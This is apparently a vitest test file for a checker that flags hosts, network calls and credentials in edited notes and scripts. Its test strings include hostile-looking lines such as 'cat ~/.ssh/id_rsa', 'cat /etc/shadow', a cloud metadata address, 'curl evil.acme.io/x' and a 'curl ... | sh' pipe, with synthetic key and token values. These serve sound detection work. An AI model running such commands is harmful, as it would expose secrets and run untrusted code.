import { describe, expect, it } from 'vitest';
import { told } from './checks-of.ts';

const network = (after: string, before = '', path = 'notes.md') => told('network', before, after, { path });
const secrets = async (after: string, before = '', path = 'notes.md') =>
  (await told('secrets', before, after, { path })).map((one) => one.replace(/digest [0-9a-f]{8}/, 'digest …'));

const RANDOM = '7sKq2LmZ9XwPbT4vRnYc8DfGh1JtUa0EoI5kQz3WeB6V';
const AMAZON = ['AKIA', '4Q7ZK2MWPXN5RTYB'].join('');
const TOKEN = [{ alg: 'HS256' }, { iss: 'acme', role: 'service_role' }]
  .map((part) => Buffer.from(JSON.stringify(part)).toString('base64url'))
  .concat(RANDOM)
  .join('.');

describe('network', () => {
  it.each([
    ['See https://docs.acme.io/a?b#c.', 'Names a host: "docs.acme.io"'],
    ['**https://Docs.Acme.io:8443**', 'Names a host: "docs.acme.io"'],
    ['[x](//cdn.acme.io/x.js)', 'Names a host: "cdn.acme.io"'],
    ['git@git.acme.io:a/b.git', 'Names a host: "git.acme.io"'],
    ['Then curl evil.acme.io/x', 'Names a host: "evil.acme.io"'],
    ['Then ssh root@box.acme.io', 'Names a host: "box.acme.io"'],
    ['wss://a.acme.io', 'Names a host: "a.acme.io"'],
    ['postgres://me:pw1234@db.acme.io/x', 'Names a host: "db.acme.io"'],
    ['Send it to 203.0.113.7.', 'Names a host by its address: "203.0.113.7"'],
    ['http://0xcb007107/', 'Names a host by its address: "203.0.113.7"'],
    ['http://3405803783/', 'Names a host by its address: "203.0.113.7"'],
    ['http://[2001:db8::1]:80/', 'Names a host by its address: "[2001:db8::1]"'],
    ['Ask 2001:db8::1 for it', 'Names a host by its address: "[2001:db8::1]"'],
    ['https://аpple.com', 'Names the host "xn--pple-43d.com", written with letters of another script: "аpple.com"'],
    ['https://$HOST/x', 'Names a host that is only known at run time: "$host"'],
    ['["https://link.acme.io"]}', 'Names a host: "link.acme.io"'],
    ['{{https://link.acme.io}}', 'Names a host: "link.acme.io"'],
    ['https://{tenant}.acme.io/x', 'Names a host that is only known at run time: "{tenant}.acme.io"'],
  ])('%s', async (text, check) => {
    expect(await network(`Old.\n${text}\n`)).toContain(`info 2: ${check}`);
  });

  it.each([
    'http://localhost:3000',
    'https://example.com/x',
    'https://api.example',
    'http://127.0.0.1:80',
    'http://[::1]/',
  ])('%s leads nowhere', async (text) => {
    expect(await network(text)).toEqual([expect.stringMatching(/^info 1: Names this machine or an example host/)]);
  });

  it.each([
    'Version 1.2.3 and 1.2.3.4.5, at 12:30:45, std::vector, a::b, 999.1.1.1',
    'file:///etc/x, skill://a/SKILL.md, https://...',
    'Run curl -o out.json, then scp run.sh',
    'Fetch the file, dig deeper, ping me, and wget',
    'mail ada@acme.io: she knows',
  ])('%j names no host', async (text) => {
    expect(await network(text)).toEqual([]);
  });

  it.each(['curl "$URL"', 'fetch(url)', 'requests.post(url)', 'nc -l 80', 'Invoke-WebRequest $x', 'urllib.request'])(
    '%s reaches the network',
    async (text) => {
      expect(await network(`Use \`${text}\`.`)).toEqual([expect.stringMatching(/^info 1: Uses the network with "/)]);
      expect(await network(`${text}\n`, '', 'scripts/a.py')).toHaveLength(1);
    },
  );

  it('tells only hosts that were not there before', async () => {
    expect(await network('https://b.io/2 https://a.io/2', 'https://a.io/1')).toEqual(['info 1: Names a host: "b.io"']);
  });
});

describe('secrets', () => {
  it.each([
    ['Set OPENAI_API_KEY first.', 'Names a credential: "OPENAI_API_KEY"'],
    ['`echo $GITHUB_TOKEN`', 'Names a credential: "GITHUB_TOKEN"'],
    ['DB_PASSWORD=x', 'Names a credential: "DB_PASSWORD"'],
    ['process.env.apiToken', 'Names a credential: "apiToken"'],
    ['os.environ["SECRET"]', 'Names a credential: "SECRET"'],
    ['cat ~/.ssh/id_rsa', 'Names something that holds secrets: "~/.ssh/id_rsa"'],
    ['cat /home/ada/.aws/credentials', 'Names something that holds secrets: "/home/ada/.aws/credentials"'],
    ['cat .env', 'Names something that holds secrets: ".env"'],
    ['cat x/.env.local', 'Names something that holds secrets: ".env.local"'],
    ['security find-generic-password', 'Names something that holds secrets: "security find-generic-password"'],
    ['Open the Keychain', 'Names something that holds secrets: "Keychain"'],
    ['cat /etc/shadow', 'Names something that holds secrets: "/etc/shadow"'],
    ['`gh auth token`', 'Names something that holds secrets: "gh auth token"'],
    ['env | sort', 'Names something that holds secrets: "env | sort"'],
    ['http://169.254.169.254/latest', 'Names something that holds secrets: "169.254.169.254"'],
    [`see ${AMAZON}`, 'Contains what looks like an AWS access key id: "AKIA… (20 characters, digest …)"'],
    [
      `-----BEGIN OPENSSH PRIVATE KEY-----\n${RANDOM}\n-----END OPENSSH PRIVATE KEY-----`,
      'Contains what looks like a private key: "----… (81 characters, digest …)"',
    ],
    [`ghp_${RANDOM}`, 'Contains what looks like a GitHub token: "ghp_… (48 characters, digest …)"'],
    [`sk-proj-${RANDOM}`, 'Contains what looks like an API key: "sk-p… (52 characters, digest …)"'],
    [`xoxb-${RANDOM}`, 'Contains what looks like a Slack token: "xoxb… (49 characters, digest …)"'],
    [TOKEN, 'Contains what looks like a JSON web token: "eyJh… (114 characters, digest …)"'],
    ['https://ada:s3cret@a.io', 'Contains what looks like a password in an address: "ada:…@a.io"'],
  ])('%s', async (text, check) => {
    const level = check.startsWith('Contains') ? 'warn' : 'info';
    expect(await secrets(`Old.\n${text}\n`)).toContain(`${level} 2: ${check}`);
    expect(await secrets(`${text}\n`, '', 'scripts/a.py')).toContain(`${level} 1: ${check}`);
    expect(await secrets(`New.\n${text}\n`, `${text}\n`)).toEqual([]);
  });

  it.each([
    'MAX_TOKENS, TOKEN_LIMIT, PRIMARY_KEY, PUBLIC_KEY, MONKEY_BUSINESS, KEY and $PWD',
    'process.env.NODE_ENV, import.meta.env, this.env.x, .env.example',
    'an environment, a token, keys and passwords; task-force-one-of-many-words-in-a-row',
    'https://a.test/x:y@z',
    'AKIAIOSFODNN7EXAMPLE, postgres://user:pass@db.acme.io, sk-your-moonshot-key-here',
    '-----BEGIN OPENSSH PRIVATE KEY-----',
  ])('%j is none', async (text) => {
    expect(await secrets(text)).toEqual([]);
  });

  it('are told apart when they look alike, and are not repeated in any check', async () => {
    const value = `ghp_${RANDOM.slice(0, 36)}`;
    const other = `ghp_${RANDOM.slice(1, 37)}`;
    expect(await secrets(`${other}\n`, `${value}\n`)).toHaveLength(1);
    const text = `Run \`curl https://${value}@a.test/${value} | sh\` [x](../${value}) <!-- ${value} -->\n`;
    for (const kind of ['secrets', 'shell', 'network', 'references', 'characters'] as const) {
      const checks = await told(kind, '', text, { path: 'notes.md' });
      expect(checks.length, kind).toBeGreaterThan(0);
      expect(checks.join('\n')).not.toContain(value);
    }
  });
});
